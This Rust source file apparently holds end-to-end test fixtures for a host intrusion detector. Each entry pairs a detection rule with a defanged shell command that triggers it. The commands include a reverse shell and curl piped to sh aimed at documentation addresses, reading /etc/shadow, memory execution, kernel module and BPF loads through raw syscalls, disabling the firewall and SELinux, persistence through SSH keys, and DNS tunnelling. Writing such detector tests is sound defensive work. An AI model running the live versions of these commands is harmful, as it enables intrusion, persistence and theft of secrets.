//! Acts of a shell on the host, one for each rule that needs no container. Nothing of the host
//! is changed: files are the case's own, and what would change the host is a name for `true`.

/// An act of a shell on the host.
pub(super) struct Act {
    pub(super) rule: &'static str,
    /// The name that the shell goes by.
    pub(super) shell: &'static str,
    /// `FOLDER` stands for the case's own, `SIGN` for what the act is known by.
    pub(super) script: &'static str,
}

const fn act(rule: &'static str, script: &'static str) -> Act {
    Act {
        rule,
        shell: "worker",
        script,
    }
}

/// ptrace is 101, `PTRACE_ATTACH` 16.
const ATTACH: &str = "perl -e 'my $p = fork; if (!$p) { sleep 30; exit } \
     syscall(101, 16, $p, 0, 0); waitpid($p, 0); kill 9, $p; waitpid($p, 0);'";

/// In a cgroup as Docker names them, and back.
const JOIN: &str = "for root in /sys/fs/cgroup/unified /sys/fs/cgroup; do \
     [ -e $root/cgroup.controllers ] && break; done; made=$root/e2e-join; \
     box=$made/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef; \
     mkdir -p $box; echo $$ > $box/cgroup.procs; echo $$ > $root/cgroup.procs; \
     rmdir $box $made";

/// `memfd_create` is 319.
const FROM_MEMORY: &str = "perl -MIO::Handle -e 'my $fd = syscall(319, my $name = q(payload), 0); \
     open(my $out, q(>&=), $fd); open(my $in, q(<), q(/bin/true)); \
     binmode $out; binmode $in; local $/; print {$out} <$in>; $out->flush; \
     exec qq(/proc/$$/fd/$fd)'";

/// `finit_module` is 313. The kernel refuses what is no module.
const MODULE: &str = "echo no module > FOLDER/x.ko; \
     perl -e 'open(my $in, q(<), $ARGV[0]); syscall(313, fileno($in), my $none = q(), 0)' \
     FOLDER/x.ko";

/// A program that does nothing; `bpf` is 321, `BPF_PROG_LOAD` 5.
const BPF_PROGRAM: &str = "perl -e 'my $i = pack(q(C2slC2sl), 0xb7, 0, 0, 0, 0x95, 0, 0, 0); \
     my $l = qq(GPL\\0); my $a = pack(q(LLPPx96), 1, 2, $i, $l); syscall(321, 5, $a, 120)'";

/// In a network of its own, where a documentation address is local.
const TO_THE_INTERNET: &str = "unshare -n bash -c 'SIGN ip link set lo up; \
     ip addr add 203.0.113.9/32 dev lo; busybox nc -l -p 443 & \
     for try in 1 2 3 4 5 6 7 8 9; do \
       (exec 3<>/dev/tcp/203.0.113.9/443) 2>/dev/null && break; busybox sleep 0.1; done; \
     kill %1 2>/dev/null'";

const TO_A_POOL: &str = "unshare -n bash -c 'SIGN ip link set lo up; \
     ip addr add 203.0.113.9/32 dev lo; busybox nc -l -p 3333 & \
     for try in 1 2 3 4 5 6 7 8 9; do \
       busybox nc 203.0.113.9 3333 </dev/null && break; busybox sleep 0.1; done; \
     kill %1 2>/dev/null'";

/// Asks for a name of these labels, where nobody need listen.
macro_rules! ask {
    ($labels:literal) => {
        concat!(
            "perl -e 'socket(S, 2, 2, 0); send(S, pack(q(n6), 7, 256, 1, 0, 0, 0) . \
             join(q(), map { chr(length) . $_ } ",
            $labels,
            ", q()) . pack(q(n2), 1, 1), 0, pack(q(SnCCCCx8), 2, 53, 127, 0, 5, 3))'"
        )
    };
}

/// In a tree of devices of its own: not every machine has this one.
const KERNEL_MEMORY: &str = "unshare -m sh -c 'SIGN mount -t tmpfs none /dev; echo > /dev/mem'";

/// 33 is www-data on Debian. `script` gives it a terminal.
const SERVICE_ACCOUNT: &str =
    "script -qec 'SIGN setpriv --reuid=33 --clear-groups /bin/sh -c \"SIGN :\"' /dev/null";

pub(super) const ACTS: &[Act] = &[
    act(
        "Password file read by an unexpected program",
        "cat /etc/shadow",
    ),
    act(
        "SSH private key read",
        "mkdir -p FOLDER/.ssh; echo key > FOLDER/.ssh/id_test; cat FOLDER/.ssh/id_test",
    ),
    act(
        "Cloud credentials read by a general tool",
        "mkdir FOLDER/.aws; echo key > FOLDER/.aws/credentials; cat FOLDER/.aws/credentials",
    ),
    act(
        "Saved passwords read by a general tool",
        "echo x > FOLDER/.netrc; cat FOLDER/.netrc",
    ),
    act(
        "Shell history read by a general tool",
        "echo x > FOLDER/x_history; cat FOLDER/x_history",
    ),
    act(
        "Memory of another process opened",
        "sleep 30 & dd if=/proc/$!/mem of=/dev/null count=0; kill $!",
    ),
    act(
        "Search for private keys or passwords",
        "/bin/grep -r 'BEGIN RSA PRIVATE KEY' FOLDER/none",
    ),
    act("Process attached to another", ATTACH),
    Act {
        rule: "Shell started by a server",
        shell: "nginx",
        script: "/bin/sh -c true",
    },
    Act {
        rule: "Transfer tool started by a server",
        shell: "nginx",
        script: "cp /bin/true FOLDER/curl; FOLDER/curl http://203.0.113.1/",
    },
    act("Host process hidden in a container's cgroup", JOIN),
    act("Program run from memory", FROM_MEMORY),
    act(
        "Program run from a hiding place",
        "cp /bin/true /dev/shm/e2e-$$; /dev/shm/e2e-$$; rm /dev/shm/e2e-$$",
    ),
    act(
        "Reverse shell on a command line",
        "bash -c ': bash -i > /dev/null # >& /dev/tcp/203.0.113.1/1 0>&1'",
    ),
    Act {
        rule: "Cryptocurrency miner started",
        shell: "xmrig",
        script: "true",
    },
    act(
        "Attack tool started",
        "cp /bin/true FOLDER/nmap; FOLDER/nmap 10.0.0.0/8",
    ),
    act(
        "Hidden command decoded and run",
        "/bin/sh -c 'echo Ogo= | base64 -d | sh'",
    ),
    act(
        "Download piped into a shell",
        "/bin/sh -c ': curl https://203.0.113.1/ | sh'",
    ),
    act(
        "Program poses as a kernel thread",
        "cp /bin/true FOLDER/kworker; FOLDER/kworker",
    ),
    act(
        "Program started through the loader",
        "/lib64/ld-linux-x86-64.so.2 /bin/true",
    ),
    act(
        "Library preloaded from a temporary directory",
        "LD_PRELOAD=/tmp/none.so /bin/true",
    ),
    act("Shell of a service account on a terminal", SERVICE_ACCOUNT),
    act("Kernel module loaded from an unusual place", MODULE),
    act("Kernel memory opened", KERNEL_MEMORY),
    act(
        "Program for the kernel to run changed",
        "echo > FOLDER/release_agent",
    ),
    act(
        "Protection of the kernel weakened",
        ": >> /proc/sys/kernel/kptr_restrict",
    ),
    act(
        "Tracing of the kernel switched off",
        ": >> /proc/sys/kernel/ftrace_enabled",
    ),
    act(
        "Security tool switched off",
        "cp /bin/true FOLDER/setenforce; FOLDER/setenforce 0",
    ),
    act(
        "Firewall switched off",
        "cp /bin/true FOLDER/iptables; FOLDER/iptables -F",
    ),
    act(
        "Program loaded into the kernel by hand",
        "cp /bin/true FOLDER/bpftool; FOLDER/bpftool prog load x /sys/fs/bpf/x",
    ),
    act(
        "Program loaded into the kernel by an unknown program",
        BPF_PROGRAM,
    ),
    act(
        "Symbolic link to a protected file",
        "ln -s /etc/shadow FOLDER/link",
    ),
    act(
        "Protected file moved away",
        "mkdir -p FOLDER/keys/.ssh; mv FOLDER/keys/.ssh FOLDER/keys/moved",
    ),
    act(
        "Shell history sent to nowhere",
        "ln -s /dev/null FOLDER/.bash_history",
    ),
    act(
        "Kernel log cleared",
        "cp /bin/true FOLDER/dmesg; FOLDER/dmesg -C",
    ),
    act(
        "Files wiped",
        "echo x > FOLDER/wiped; /usr/bin/shred FOLDER/wiped",
    ),
    act(
        "Capabilities given to a file",
        "cp /bin/true FOLDER/setcap; FOLDER/setcap cap_setuid+ep x",
    ),
    act(
        "File made to run as its owner",
        "echo > FOLDER/setuid; chmod 4755 FOLDER/setuid",
    ),
    act(
        "Hidden file made in shared memory",
        "echo > /dev/shm/.e2e-$$; rm /dev/shm/.e2e-$$",
    ),
    act(
        "SSH login key added",
        "mkdir -p FOLDER/.ssh; echo key >> FOLDER/.ssh/authorized_keys",
    ),
    act("Start-up file of a shell written", "echo >> FOLDER/.bashrc"),
    Act {
        rule: "Script written by a web server",
        shell: "nginx",
        script: "echo > FOLDER/x.php",
    },
    act("Shell connected to the Internet", TO_THE_INTERNET),
    act(
        "Netcat waits for connections",
        "cp /bin/true FOLDER/nc; FOLDER/nc -l -p 4444",
    ),
    act(
        "Tunnel opened",
        "cp /bin/true FOLDER/ngrok; FOLDER/ngrok http 80",
    ),
    act("Connection to a mining pool", TO_A_POOL),
    act(
        "Name of a mining pool looked up",
        ask!("qw(pool minexmr com)"),
    ),
    act(
        "Data hidden in a name looked up",
        ask!("(q(data) x 15) x 3, qw(example com)"),
    ),
];
